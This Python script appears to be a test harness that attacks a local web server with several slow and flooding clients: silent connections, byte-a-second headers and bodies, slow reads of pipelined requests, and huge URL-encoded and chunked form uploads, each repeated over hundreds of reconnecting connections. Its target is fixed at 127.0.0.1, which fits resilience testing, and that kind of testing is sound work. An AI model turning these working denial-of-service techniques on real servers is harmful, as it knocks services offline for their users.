"""Clients that take what they can: they say little and slowly, read slowly, or send without end.

A process of its own, so that what it costs to attack is not taken for what it costs to be attacked. Each attack is
kept up until the process is ended: a client that is hung up on comes back at once.
"""

import asyncio
import contextlib
import socket
import sys
from collections.abc import Callable, Coroutine
from typing import Any, TypeAlias

CONNECTIONS = 500
SENDERS = 8  # of those that send as fast as they can
PAUSE = 1.0  # seconds between two bytes of the slow
SMALL = 2048  # bytes the kernel may hold for a slow reader
PIECE = b"a=1&" * 16_384
FORM = b"Content-Type: application/x-www-form-urlencoded\r\n"

Client: TypeAlias = Callable[[asyncio.StreamReader, asyncio.StreamWriter, bytes, str], Coroutine[Any, Any, None]]


async def silence(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: bytes, path: str) -> None:
    """Connect and say nothing."""
    await reader.read()


async def heads(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: bytes, path: str) -> None:
    """A head that never ends, a byte a second."""
    writer.write(f"GET {path} HTTP/1.1\r\n".encode() + host + b"X-Slow: ")
    await _dribble(reader, writer)


async def bodies(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: bytes, path: str) -> None:
    """A form of sixty thousand bytes, a byte a second."""
    writer.write(f"POST {path}/enquire HTTP/1.1\r\n".encode() + host + FORM + b"Content-Length: 60000\r\n\r\n")
    await _dribble(reader, writer)


async def reads(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: bytes, path: str) -> None:
    """Ten pages at once, read a byte a second."""
    writer.write((f"GET {path} HTTP/1.1\r\n".encode() + host + b"\r\n") * 10)
    while await reader.read(1):
        await asyncio.sleep(PAUSE)


async def fields(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: bytes, path: str) -> None:
    """A form of a million fields."""
    writer.write(f"POST {path}/enquire HTTP/1.1\r\n".encode() + host + FORM + b"Content-Length: 4000000\r\n\r\n")
    await _pour(reader, writer, PIECE, 4_000_000)


async def masses(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: bytes, path: str) -> None:
    """A form of two hundred megabytes, whose length is not told."""
    writer.write(f"POST {path}/enquire HTTP/1.1\r\n".encode() + host + FORM + b"Transfer-Encoding: chunked\r\n\r\n")
    await _pour(reader, writer, b"%x\r\n%s\r\n" % (len(PIECE), PIECE), 200_000_000)


ATTACKS: dict[str, tuple[Client, int]] = {
    "silence": (silence, CONNECTIONS), "heads": (heads, CONNECTIONS), "bodies": (bodies, CONNECTIONS),
    "reads": (reads, CONNECTIONS), "fields": (fields, SENDERS), "masses": (masses, SENDERS),
}  # fmt: skip


async def attack(name: str, port: int, path: str) -> None:
    """Keep one attack up."""
    client, connections = ATTACKS[name]
    await asyncio.gather(*(_again_and_again(client, port, path) for _ in range(connections)))


async def _again_and_again(client: Client, port: int, path: str) -> None:
    host = f"Host: 127.0.0.1:{port}\r\n".encode()
    while True:
        with contextlib.suppress(OSError), contextlib.closing(socket.socket()) as raw:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL)
            raw.setblocking(False)
            await asyncio.get_running_loop().sock_connect(raw, ("127.0.0.1", port))
            reader, writer = await asyncio.open_connection(sock=raw, limit=1)
            await client(reader, writer, host, path)
            writer.close()
        await asyncio.sleep(0.1)


async def _dribble(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while not reader.at_eof():
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(PAUSE)


async def _pour(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, piece: bytes, size: int) -> None:
    for _ in range(0, size, len(PIECE)):
        writer.write(piece)
        await writer.drain()
    await reader.read(1)


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], int(sys.argv[2]), sys.argv[3]))
